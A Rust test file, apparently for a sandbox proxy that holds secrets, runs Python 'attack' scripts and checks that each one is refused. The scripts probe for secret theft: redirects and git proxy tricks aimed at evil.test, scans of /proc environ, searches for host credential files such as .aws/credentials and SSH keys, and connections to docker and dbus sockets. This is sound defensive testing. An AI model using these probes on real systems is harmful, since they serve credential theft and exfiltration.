//! Section B of the list: ways to a secret.

use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};

use system_tests::{Res, process, trouble};

use super::world::{Fake, SECOND, TOKEN, shared};

const BEARER: &str = "Bearer ";

#[test]
fn b02_a_placeholder_in_a_header_that_servers_repeat_is_refused() -> Res<()> {
    let Some(fake) = shared("b02")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b02",
        r#"
key = os.environ["SHOWN_KEY"]
for name in ["User-Agent", "Referer", "Origin", "X-Request-Id", "Sec-WebSocket-Protocol", "Idempotency-Key", "Prefer",
             "Last-Event-ID", "Cookie"]:
    tell(https, "shown.test", "/b02", headers=[(name, key)])
"#,
    )?;
    assert_eq!(told, ["403 placeholder"; 9]);
    fake.denied("b02", "placeholder")?;
    assert_eq!(fake.got("/b02"), []);
    Ok(())
}

#[test]
fn b03_a_placeholder_in_a_body_a_query_or_a_path_is_refused() -> Res<()> {
    let Some(fake) = shared("b03")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b03",
        r#"
key = os.environ["SHOWN_KEY"]
tell(https, "shown.test", "/b03?note=" + key)
tell(https, "shown.test", "/b03/" + key)
tell(https, "shown.test", "/b03", "POST", body='{"note": "' + key + '"}')
tell(https, "cdn.test", "/b03", "POST", body=key)
"#,
    )?;
    assert_eq!(told, ["403 placeholder"; 4]);
    fake.denied("b03", "placeholder")?;
    assert!(
        fake.got(TOKEN)
            .iter()
            .all(|seen| !seen.line.contains("b03"))
    );
    Ok(())
}

#[test]
fn b04_the_placeholder_of_one_secret_is_nothing_at_the_host_of_another() -> Res<()> {
    let Some(fake) = shared("b04")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b04",
        r#"
tell(https, "other.test", "/b04", headers=[("x-api-key", os.environ["SHOWN_KEY"])])
tell(https, "shown.test", "/b04", headers=[("x-api-key", os.environ["SECOND_KEY"])])
"#,
    )?;
    assert_eq!(told, ["403 placeholder"; 2]);
    fake.denied("b04", "placeholder")?;
    assert_eq!(fake.got("/b04"), []);
    Ok(())
}

#[test]
fn b05_another_sandboxs_placeholder_is_worth_nothing() -> Res<()> {
    let Some(fake) = shared("b05")? else {
        return Ok(());
    };
    let keys = fake.attack_in("b", "b05-keys", r#"print(os.environ["SHOWN_KEY"])"#)?;
    let key = &keys[0];
    let own = fake.attack("b05-own", r#"print(os.environ["SHOWN_KEY"])"#)?;
    assert_ne!(key, &own[0]);
    fake.attack(
        "b05",
        &format!("tell(https, 'shown.test', '/b05', headers=[('x-api-key', '{key}')])"),
    )?;
    for seen in fake.got("/b05") {
        assert_ne!(seen.header("x-api-key"), Some(TOKEN));
    }
    // In its own sandbox it is good.
    let good = format!("tell(https, 'shown.test', '/b05-own', headers=[('x-api-key', '{key}')])");
    assert_eq!(fake.attack_in("b", "b05", &good)?, ["200"]);
    assert_eq!(fake.got("/b05-own")[0].header("x-api-key"), Some(TOKEN));
    Ok(())
}

#[test]
fn b06_redirect_to_another_host_takes_no_secret_along() -> Res<()> {
    let Some(fake) = shared("b06")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b06",
        r#"
answer = https("api.test", "/elsewhere")
print(said(answer), b"location: https://evil.test/stolen" in answer)
tell(https, "evil.test", "/b06-stolen")
tell(https, "cdn.test", "/b06-cdn")
print(os.popen("curl -skL -o /dev/null -w '%{http_code}' https://api.test/elsewhere").read())
"#,
    )?;
    assert_eq!(told, ["302 True", "403 no_rule", "200", "403"]);
    assert_eq!(fake.got("/b06-cdn")[0].header("authorization"), None);
    fake.denied("b06", "no_rule")?;
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn b07_without_tls_no_request_leaves_for_a_host_of_a_secret() -> Res<()> {
    let Some(fake) = shared("b07")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b07",
        r#"
tell(http, "api.test", "/b07")
print(said(talk(tcp(*PROXY), "GET http://api.test/b07 HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")))
print(said(talk(tcp("api.test", 443), request("api.test", "/b07"))))
"#,
    )?;
    assert_eq!(told, ["403 no_rule"; 3]);
    fake.denied("b07", "no_rule")?;
    assert_eq!(fake.got("/b07"), []);
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn b08_a_server_that_nobody_vouches_for_gets_nothing() -> Res<()> {
    let Some(fake) = shared("b08")? else {
        return Ok(());
    };
    let told = fake.attack("b08", r#"tell(https, "unknown.test", "/b08")"#)?;
    assert_eq!(told, ["502 upstream"]);
    let event = fake.denied("b08", "upstream")?;
    assert!(
        event["message"]
            .as_str()
            .is_some_and(|words| words.contains("certificate")),
        "{event}"
    );
    assert_eq!(fake.unknown.seen(), []);
    Ok(())
}

/// Looks inside for values that it gets in pieces: its own text is in its memory, arguments and journal.
const FIND: &str = r#"
def holds(data):
    return any((a + b).encode() in data for a, b in PIECES)
def everywhere(name):
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                if holds(f.read()):
                    found.append(f"{pid}/{name}")
        except OSError:
            pass
    return found
"#;

fn find(values: &[&str], script: &str) -> String {
    let pieces: Vec<String> = values
        .iter()
        .map(|value| {
            format!(
                "({:?}, {:?})",
                &value[..value.len() / 2],
                &value[value.len() / 2..]
            )
        })
        .collect();
    format!("PIECES = [{}]\n{FIND}\n{script}", pieces.join(", "))
}

#[test]
fn b09_no_environment_inside_holds_a_secret() -> Res<()> {
    let Some(fake) = shared("b09")? else {
        return Ok(());
    };
    let script = r#"
import subprocess
PIECES.append(("sk-de", "coy-of-b09"))
decoy = subprocess.Popen(["sleep", "60"], env={"DECOY": "sk-de" + "coy-of-b09"})
print([found.split("/")[1] for found in everywhere("environ")])
decoy.kill()
decoy.wait()
print(everywhere("environ"), holds(repr(dict(os.environ)).encode()))
try:
    open("/proc/1/environ", "rb").read(1)
    print("read")
except OSError as e:
    print(type(e).__name__)
"#;
    let told = fake.attack("b09", &find(&[TOKEN, SECOND], script))?;
    assert_eq!(told, ["['environ']", "[] False", "PermissionError"]);
    // Nor does that of its supervisor, which only the host can read.
    let supervisor = fake
        .world
        .supervisor("a")
        .ok_or_else(|| trouble("no supervisor"))?;
    let environment = process::file(supervisor, "environ");
    assert!(!environment.is_empty());
    assert!(!String::from_utf8_lossy(&environment).contains(TOKEN));
    Ok(())
}

#[test]
fn b10_nothing_is_inherited_from_the_daemon() -> Res<()> {
    let Some(fake) = shared("b10")? else {
        return Ok(());
    };
    let script = r#"
print(sorted(os.listdir("/proc/self/fd")))
print(everywhere("environ"), everywhere("cmdline"))
print([name for name in os.environ if name in ("HOST_ONLY", "SSH_AUTH_SOCK", "DBUS_SESSION_BUS_ADDRESS", "DURABLE_DATA", "RUST_BACKTRACE")])
"#;
    let told = fake.attack("b10", &find(&[TOKEN, super::world::HOST_ONLY], script))?;
    // 3 is the directory that is listed.
    assert_eq!(told, ["['0', '1', '2', '3']", "[] []", "[]"]);
    Ok(())
}

#[test]
fn b11_files_with_credentials_of_the_host_are_not_there() -> Res<()> {
    let Some(fake) = shared("b11")? else {
        return Ok(());
    };
    let names = [
        ".netrc",
        ".git-credentials",
        ".config/gh/hosts.yml",
        ".npmrc",
        ".docker/config.json",
        ".aws/credentials",
        ".kube/config",
        ".cargo/credentials.toml",
        ".ssh/id_ed25519",
    ];
    let home = fake.world.root().join("home");
    for name in names {
        let path = home.join(name);
        std::fs::create_dir_all(path.parent().unwrap_or(&home))?;
        std::fs::write(path, "a credential of the host\n")?;
    }
    let script = format!(
        r#"
names = {names:?}
homes = ["/root", "/workspace", os.environ.get("HOME", "/"), {home:?}] + ["/home/" + name for name in os.listdir("/home")]
print([os.path.join(home, name) for home in homes for name in names if os.path.lexists(os.path.join(home, name))])
print(os.path.exists("/etc/shadow"), os.path.exists({home:?}))
"#
    );
    assert_eq!(fake.attack("b11", &script)?, ["[]", "False False"]);
    Ok(())
}

#[test]
fn b13_a_configuration_of_git_leads_no_token_elsewhere() -> Res<()> {
    let Some(fake) = shared("b13")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b13",
        r#"
def git(*settings):
    config = " ".join(f"-c {setting}" for setting in settings)
    with os.popen(f"GIT_TERMINAL_PROMPT=0 git {config} ls-remote https://git.test/acme/b13 2>&1") as out:
        text = out.read()
        return "403" in text, "Could not resolve proxy" in text or "CONNECT tunnel failed" in text or "Proxy CONNECT" in text
print(git("url.https://evil.test/.insteadOf=https://git.test/")[0])
print(git("http.proxy=http://evil.test:80")[0], git("http.proxy=http://evil.test:80")[1])
print(git("http.curloptResolve=git.test:443:11.66.66.66", "http.sslVerify=false")[0])
print(os.popen("git -c core.sshCommand='ssh -o ConnectTimeout=5' ls-remote ssh://git@evil.test/acme/b13 2>&1; true").read().count("acme/b13 refs"))
"#,
    )?;
    assert_eq!(
        (told[0].as_str(), told[3].as_str()),
        ("True", "0"),
        "{told:?}"
    );
    assert!(told[1].contains("True"), "{told:?}");
    // The address that git was given counts for nothing, so this one reached the server that the token is for.
    let server = fake.server.seen();
    let reached: Vec<_> = server
        .iter()
        .filter(|seen| seen.line.contains("b13"))
        .collect();
    assert!(
        reached
            .iter()
            .all(|seen| seen.header("host") == Some("git.test")),
        "{reached:?}"
    );
    assert_eq!(
        fake.plain
            .seen()
            .iter()
            .filter(|seen| seen.line.contains("b13"))
            .count(),
        0
    );
    fake.denied("b13", "no_rule")?;
    fake.nothing_leaked();
    Ok(())
}

#[test]
fn b14_no_socket_of_the_host_is_reached() -> Res<()> {
    let Some(fake) = shared("b14")? else {
        return Ok(());
    };
    let name = format!("durable-attack-b14-{}", std::process::id());
    let _listener = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name)?)?;
    let script = format!(
        r#"
def reach(address):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(address)
        return "reached"
    except OSError as e:
        return type(e).__name__
print(reach("\0{name}"))
print({{reach(path) for path in ["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/user/0/bus",
      "/run/containerd/containerd.sock", "{data}/api.sock", "/tmp/.X11-unix/X0", "/run/systemd/private"]}})
print([line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if line.split()[-1].startswith("@")])
"#,
        data = fake.world.data().display()
    );
    let told = fake.attack("b14", &script)?;
    assert_eq!(
        told,
        ["ConnectionRefusedError", "{'FileNotFoundError'}", "[]"]
    );
    Ok(())
}

#[test]
fn b15_a_token_that_a_server_answers_with_does_not_come_in() -> Res<()> {
    let Some(fake) = shared("b15")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b15",
        r#"
answer = https("api.test", "/reflect/b15")
print(said(answer), b"authorization: Bearer " in answer)
"#,
    )?;
    assert_eq!(told, ["200 True"]);
    let effects = fake.effects("b15")?;
    assert_eq!(effects[0]["secrets"][0]["name"], "token", "{effects:?}");
    let seen = fake.got("/reflect/b15");
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("{BEARER}{TOKEN}").as_str())
    );
    Ok(())
}

#[test]
fn b16_a_signature_is_made_anew_as_a_whole_or_the_request_is_refused() -> Res<()> {
    let Some(fake) = shared("b16")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b16",
        r#"
scope = "Credential=AKIAFAKE/20260101/eu-central-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=00"
def signed(hashed, algorithm="AWS4-HMAC-SHA256"):
    return [("authorization", f"{algorithm} {scope}"), ("x-amz-date", "20260101T000000Z"), ("x-amz-content-sha256", hashed)]
tell(https, "aws.test", "/bucket/b16-unsigned", "PUT", headers=signed("UNSIGNED-PAYLOAD"), body="data")
tell(https, "aws.test", "/bucket/b16-streaming", "PUT", headers=signed("STREAMING-AWS4-HMAC-SHA256-PAYLOAD"), body="data")
tell(https, "aws.test", "/bucket/b16-sigv4a", "PUT", headers=signed("UNSIGNED-PAYLOAD", "AWS4-ECDSA-P256-SHA256"), body="data")
query = "X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=AKIAFAKE%2F20260101%2Feu-central-1%2Fs3%2Faws4_request&X-Amz-Date=20260101T000000Z&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature=00"
tell(https, "aws.test", "/bucket/b16-presigned?" + query)
"#,
    )?;
    assert_eq!(
        (told[0].as_str(), told[1].as_str()),
        ("200", "403 secret"),
        "{told:?}"
    );
    let seen = fake.got("/bucket/b16");
    for seen in &seen {
        let all = format!("{seen:?}");
        assert!(
            !all.contains("AKIAFAKE") && !all.contains("Signature=00"),
            "half signed: {all}"
        );
        assert!(
            all.contains("AKIA5REALREALREAL07X") && !all.contains("kQ8vZt2Lm6Wx"),
            "{all}"
        );
    }
    assert_eq!(
        seen.len(),
        told.iter().filter(|told| *told == "200").count()
    );
    fake.denied("b16", "secret")?;
    Ok(())
}

#[test]
fn b18_no_error_path_writes_a_secret_down() -> Res<()> {
    let Some(fake) = shared("b18")? else {
        return Ok(());
    };
    fake.attack(
        "b18",
        r#"
tell(https, "unknown.test", "/b18")
tell(https, "api.test", "/coded")
talk(tls("api.test"), "GET /b18 HTTP/1.1\r\nHost: api.test\r\nX: a\0b\r\n\r\n")
tell(https, "strict.test", "/b18", headers=[("Authorization", "Bearer mine")])
s = tls("api.test")
s.sendall(request("api.test", "/reflect/b18", "POST", body="x" * 100)[:-50].encode())
s.close()
"#,
    )?;
    fake.denied("b18", "upstream")?;
    fake.denied("b18", "secret")?;
    let log = std::fs::read_to_string(fake.world.data().join("daemon.log"))?;
    assert!(log.contains("DEBUG"), "the log is not the daemon's");
    // Nor does one that crashes leave its memory behind.
    let daemon = fake.world.daemon().ok_or_else(|| trouble("no daemon"))?;
    let limits = process::file(daemon, "limits");
    let limits = String::from_utf8_lossy(&limits).into_owned();
    let cores = limits
        .lines()
        .find(|line| line.starts_with("Max core file size"));
    let cores: Vec<&str> = cores.unwrap_or_default().split_whitespace().collect();
    assert!(cores.get(4) == Some(&"1"), "{limits}");
    let journal = fake.world.must(&["log", "a", "--json"])?.out();
    let denials = fake.world.must(&["policy", "log", "a", "--json"])?.out();
    for text in [log, journal, denials] {
        assert!(!text.contains(TOKEN) && !text.contains(SECOND));
    }
    Ok(())
}

#[test]
fn b19_a_placeholder_inside_of_basic_is_replaced_inside_of_basic() -> Res<()> {
    let Some(fake) = shared("b19")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b19",
        r#"
import base64
basic = base64.b64encode(("me:" + os.environ["SHOWN_KEY"]).encode()).decode()
tell(https, "shown.test", "/b19", headers=[("Authorization", "Basic " + basic)])
tell(https, "shown.test", "/b19-elsewhere", headers=[("X-Auth", "Basic " + basic)])
"#,
    )?;
    assert_eq!(told, ["200", "403 placeholder"]);
    let seen = fake.got("/b19");
    assert_eq!(seen.len(), 1);
    let value = seen[0]
        .header("authorization")
        .and_then(|value| value.strip_prefix("Basic "));
    let value = value.ok_or_else(|| trouble("no Basic arrived"))?;
    let mut decode = std::process::Command::new("base64");
    decode
        .arg("-d")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped());
    let mut decode = decode.spawn()?;
    if let Some(mut stdin) = decode.stdin.take() {
        std::io::Write::write_all(&mut stdin, value.as_bytes())?;
    }
    assert_eq!(
        decode.wait_with_output()?.stdout,
        format!("me:{TOKEN}").as_bytes()
    );
    Ok(())
}

#[test]
fn b21_secrets_outlive_the_daemon_and_end_with_their_removal() -> Res<()> {
    if !crate::is_root("b21_secrets_outlive_the_daemon_and_end_with_their_removal") {
        return Ok(());
    }
    let mut fake = Fake::new("b21")?;
    let script = |path: &str| {
        format!(
            "tell(https, 'api.test', '/{path}')\n\
             tell(https, 'shown.test', '/{path}', headers=[('x-api-key', os.environ['SHOWN_KEY'])])"
        )
    };
    assert_eq!(
        fake.attack("b21-before", &script("before"))?,
        ["200", "200"]
    );
    fake.kill_daemon()?;
    fake.serve()?;
    assert_eq!(fake.attack("b21-after", &script("after"))?, ["200", "200"]);
    let seen = fake.got("/after");
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("{BEARER}{TOKEN}").as_str())
    );
    assert_eq!(seen[1].header("x-api-key"), Some(TOKEN));
    fake.world.must(&["secret", "rm", "token"])?;
    assert_eq!(
        fake.attack("b21-gone", &script("gone"))?,
        ["403 secret", "403 secret"]
    );
    fake.denied("b21-gone", "secret")?;
    assert_eq!(fake.got("/gone"), []);
    fake.nothing_leaked();
    fake.end_clean()
}

#[test]
fn b22_of_two_secrets_for_one_host_the_path_chooses() -> Res<()> {
    let Some(fake) = shared("b22")? else {
        return Ok(());
    };
    let told = fake.attack(
        "b22",
        r#"
for path in ["/one/b22", "/two/b22", "/one/../two/b22-dots", "/one/%2e%2e/two/b22-dots", "/one/..;/two/b22-dots", "/three/b22-dots"]:
    tell(https, "two.test", path)
"#,
    )?;
    assert_eq!(told[..2], ["200", "200"]);
    for told in &told[2..] {
        assert!(
            ["403 bad_name", "403 no_rule", "400 protocol"].contains(&told.as_str()),
            "{told}"
        );
    }
    let secret = |path: &str| fake.got(path)[0].header("authorization").map(str::to_owned);
    assert_eq!(secret("/one/b22"), Some(format!("{BEARER}{TOKEN}")));
    assert_eq!(secret("/two/b22"), Some(format!("{BEARER}{SECOND}")));
    assert_eq!(fake.got("b22-dots"), []);
    let effects = fake.effects("b22")?;
    let named = effects
        .iter()
        .map(|effect| effect["secrets"][0]["name"].as_str());
    assert_eq!(named.collect::<Vec<_>>(), [Some("token"), Some("bare")]);
    Ok(())
}
